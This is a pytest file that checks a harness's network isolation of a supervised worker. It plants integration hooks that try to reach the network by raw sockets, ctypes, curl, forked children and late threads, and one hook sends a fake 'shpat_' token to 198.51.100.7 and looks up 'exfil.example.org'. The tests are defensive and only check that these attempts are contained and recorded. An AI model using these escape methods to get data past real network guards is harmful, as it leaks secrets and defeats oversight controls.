"""Network isolation of the supervised worker (issue 15): the escape methods that got past the
socket guard, each tried by a hook against a listener this test starts on 127.0.0.1 and
counts. In the worker's own network namespace every one is contained (the listener counts
nothing) and recorded (the namespace's escape counters, or the socket guard); where the
namespace is not used, subprocesses find every proxy variable pointed at a refusing port and
the report header says "socket guard only"."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.cli import main
from harness.simulator import Simulator
from harness.steps import Register
from harness.supervise import GUARD_ONLY, NAMESPACE, Channel, Limits, supervise
from harness.supervise.isolation import PROXY_VARIABLES, interfaces
from harness.targets.python import load_integration

ROOT = Path(__file__).resolve().parents[2]

RAW_CONNECT = """
def raw_connect():
    import _socket
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(("127.0.0.1", PORT))
    s.send(TOKEN)
"""

METHODS: dict[str, str] = {
    "udp_sendto": 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(TOKEN, ("127.0.0.1", UDP))',
    "tcp_fast_open": (
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        '    s.sendto(TOKEN, socket.MSG_FASTOPEN, ("127.0.0.1", PORT))'
    ),
    "raw_socket": "raw_connect()",
    "ctypes_connect": (
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "    fd = libc.socket(2, 1, 0)\n"
        '    addr = struct.pack("<H", 2) + struct.pack("!H", PORT) + bytes([127, 0, 0, 1]) + bytes(8)\n'
        "    if libc.connect(fd, addr, 16) == 0:\n"
        "        libc.send(fd, TOKEN, len(TOKEN), 0)\n"
        "    os.close(fd)"
    ),
    "subprocess_curl": (
        'subprocess.run(["curl", "-s", "-m", "3", f"http://127.0.0.1:{PORT}/?t=shpat_x"], '
        "capture_output=True)"
    ),
    "os_system": 'os.system(f"curl -s -m 3 http://127.0.0.1:{PORT}/ >/dev/null 2>&1")',
    "multiprocessing_child": (
        'p = multiprocessing.get_context("fork").Process(target=raw_connect)\n'
        "    p.start()\n"
        "    p.join(5)"
    ),
    "thread_after_the_run": (
        "threading.Thread(target=lambda: (time.sleep(0.5), raw_connect()), daemon=True).start()"
    ),
    "python_socket": 'socket.create_connection(("127.0.0.1", PORT), timeout=3).send(TOKEN)',
}

# What records the attempt in the namespace: its tap on loopback, which names the destination
# ({port}, {udp}: the listener's), or the socket guard.
TCP = "1 refused connection(s): 127.0.0.1:{port}"
RECORDED_BY: dict[str, str] = {
    "udp_sendto": "1 datagram(s) to a closed port: 127.0.0.1:{udp}",
    "tcp_fast_open": TCP,
    "raw_socket": TCP,
    "ctypes_connect": TCP,
    "subprocess_curl": TCP,
    "os_system": TCP,
    "multiprocessing_child": TCP,
    "thread_after_the_run": "",  # the worker ends with the run: the thread never connects
    # The socket guard allows loopback (the served fakes live there): in the namespace,
    # nothing listens on the worker's own 127.0.0.1, and the tap sees the refusal.
    "python_socket": TCP,
}

TEMPLATE = """
import ctypes, multiprocessing, os, socket, struct, subprocess, threading, time
PORT = {port}
UDP = {udp}
TOKEN = b"shpat_0123456789abcdef"
{raw}
def attempt():
    {body}

def register(ctx):
    try:
        attempt()
    except Exception:
        pass

def unregister(ctx):
    pass
"""


class Listener:
    """A TCP and a UDP socket on 127.0.0.1 that count what reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.tcp.settimeout(0.1)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.1)
        self.connections = 0
        self.datagrams = 0
        self.running = True
        self.threads = [
            threading.Thread(target=self._accept, daemon=True),
            threading.Thread(target=self._receive, daemon=True),
        ]
        for t in self.threads:
            t.start()

    @property
    def port(self) -> int:
        return int(self.tcp.getsockname()[1])

    @property
    def udp_port(self) -> int:
        return int(self.udp.getsockname()[1])

    def _accept(self) -> None:
        while self.running:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def _receive(self) -> None:
        while self.running:
            try:
                self.udp.recv(4096)
            except OSError:
                continue
            self.datagrams += 1

    def close(self) -> None:
        self.running = False
        for t in self.threads:
            t.join(2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    counting = Listener()
    yield counting
    counting.close()


def _integration(tmp_path: Path, name: str, listener: Listener) -> Path:
    path = tmp_path / f"escape_{name}.py"
    path.write_text(
        TEMPLATE.format(
            port=listener.port, udp=listener.udp_port, raw=RAW_CONNECT, body=METHODS[name]
        ),
        encoding="utf-8",
    )
    return path


def _register_once(path: Path) -> object:
    def job(_channel: Channel) -> list[str]:
        integration = load_integration(str(path))
        with Simulator(integration) as sim:
            result = sim.run([Register()])
        return [
            exchange.error or ""
            for record in result.history.records
            for call in record.calls
            for exchange in call.exchanges
            if not exchange.served
        ]

    return job


def test_the_listener_counts_what_reaches_it(listener: Listener) -> None:
    """The counting works: a connection and a datagram from this process are counted."""
    socket.create_connection(("127.0.0.1", listener.port)).close()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"x", ("127.0.0.1", listener.udp_port))
    deadline = time.monotonic() + 5
    while (listener.connections, listener.datagrams) != (1, 1) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert (listener.connections, listener.datagrams) == (1, 1)


def test_the_worker_sees_only_loopback() -> None:
    outcome = supervise(lambda _ch: interfaces(), limits=Limits(isolation="namespace"))
    assert outcome.stop is None, outcome.stop
    assert outcome.isolation == NAMESPACE
    assert outcome.result == ["lo"]


@pytest.mark.parametrize("name", sorted(METHODS))
def test_an_escape_is_contained_and_recorded(name: str, tmp_path: Path, listener: Listener) -> None:
    path = _integration(tmp_path, name, listener)
    outcome = supervise(_register_once(path), limits=Limits(isolation="namespace"))
    assert outcome.stop is None, outcome.stop
    assert outcome.isolation == NAMESPACE
    time.sleep(1.0)  # a thread or child that would connect late has had its chance
    assert (listener.connections, listener.datagrams) == (0, 0)
    escapes = [str(text) for kind, text in outcome.messages if kind == "escape"]
    expected = RECORDED_BY[name]
    if expected == "guard":
        assert escapes == []
        assert any("NetworkBlockedError" in error for error in outcome.result), outcome.result
    elif expected:
        # The simulator's reference register (alone on an empty shop) tries too: one line each.
        assert escapes
        recorded = expected.format(port=listener.port, udp=listener.udp_port)
        assert set(escapes) == {
            f"register of bot1-id at step 1 (register bot=bot1): {recorded} (contained)"
        }
    else:
        assert escapes == []


FAR_AWAY = """
import ctypes, socket, subprocess
def register(ctx):
    import _socket
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    try:
        s.connect(("93.184.216.34", 443))
    except OSError:
        pass
    u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    u.sendto(b"shpat_0123456789abcdef", ("198.51.100.7", 9999))
    subprocess.run(["getent", "hosts", "exfil.example.org"], capture_output=True)

def unregister(ctx):
    pass
"""


def test_an_escape_names_where_it_was_going(tmp_path: Path) -> None:
    """Every address is refused on the namespace's loopback, and the tap names it: a host, a
    datagram's destination, the DNS name a child process tried to resolve."""
    path = tmp_path / "far_away.py"
    path.write_text(FAR_AWAY, encoding="utf-8")
    outcome = supervise(_register_once(path), limits=Limits(isolation="namespace"))
    assert outcome.stop is None, outcome.stop
    escapes = [str(text) for kind, text in outcome.messages if kind == "escape"]
    assert escapes
    line = escapes[0]
    assert line.startswith("register of bot1-id at step 1 (register bot=bot1): ")
    assert "1 refused connection(s): 93.184.216.34:443" in line
    assert "198.51.100.7:9999" in line
    nameservers = [
        entry.split()[1]
        for entry in Path("/etc/resolv.conf").read_text(encoding="utf-8").splitlines()
        if entry.startswith("nameserver")
    ]
    if nameservers:  # a resolver configured: the query for the name is seen going to it
        assert "(a DNS query for exfil.example.org)" in line
    assert "shpat_" not in line


def test_guard_only_points_every_proxy_at_a_refusing_port(
    tmp_path: Path, listener: Listener
) -> None:
    path = _integration(tmp_path, "subprocess_curl", listener)

    def job(channel: Channel) -> dict[str, str]:
        import os

        _register_once(path)(channel)
        return {name: os.environ[name] for name in PROXY_VARIABLES}

    outcome = supervise(job, limits=Limits(isolation="guard"))
    assert outcome.stop is None, outcome.stop
    assert outcome.isolation == GUARD_ONLY
    proxies = set(outcome.result.values())
    assert len(proxies) == 1
    (proxy,) = proxies
    assert proxy.startswith("http://127.0.0.1:")
    time.sleep(0.5)
    assert listener.connections == 0  # curl went to the proxy, which refused


@pytest.mark.parametrize(("isolation", "header"), [("namespace", NAMESPACE), ("guard", GUARD_ONLY)])
def test_the_report_says_which_isolation_and_lists_the_escapes(
    isolation: str,
    header: str,
    tmp_path: Path,
    listener: Listener,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    path = _integration(tmp_path, "udp_sendto", listener)
    scenario = str(ROOT / "scenarios" / "register-five-times.scenario.yaml")
    code = main(
        [
            "replay",
            scenario,
            "--integration",
            str(path),
            "--isolation",
            isolation,
            "--report-json",
            "r.json",
        ]
    )
    out = capsys.readouterr().out
    report = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert out.startswith(header + "\n")
    assert report["isolation"] == header
    if isolation == "namespace":
        assert code == 1
        assert listener.datagrams == 0
        # One line per register of the scenario (and the simulator's reference register).
        assert len(report["escapes"]) >= 5
        assert f"network escape attempts: {len(report['escapes'])}" in out
        udp = f"datagram(s) to a closed port: 127.0.0.1:{listener.udp_port}"
        assert all(udp in e for e in report["escapes"])
    else:
        # Without the namespace a UDP datagram is the socket guard's to stop (issue 10).
        assert report["escapes"] == []
